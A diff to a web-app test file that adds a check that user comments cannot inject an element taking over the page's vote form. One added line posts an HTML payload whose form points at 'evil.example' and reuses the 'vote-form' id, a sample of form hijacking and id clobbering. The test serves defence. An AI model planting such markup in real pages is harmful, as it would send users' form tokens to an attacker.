@@ -316,7 +316,10 @@ def test_nobody_gets_a_reply_form_on_a_locked_thread_or_when_signed_out(app, cli
 
 def test_vote_buttons_send_the_pages_one_vote_form_with_their_value(app, alice, bob):
     cid, other = posted(alice, "vote on me"), posted(alice, "and on me")
+    # A comment cannot take the form's place: no element of a comment keeps an id.
+    posted(alice, '<form id="vote-form" action="https://evil.example/"><b id="vote-form">x</b>')
     page = bob.get(PAGE).text
+    assert page.count('id="vote-form"') == 1
     # The token and the way back are said once, in the page's vote form; each button
     # sends that form to its own comment's address.
     assert page.count('<form id="vote-form" method="post" hidden>') == 1
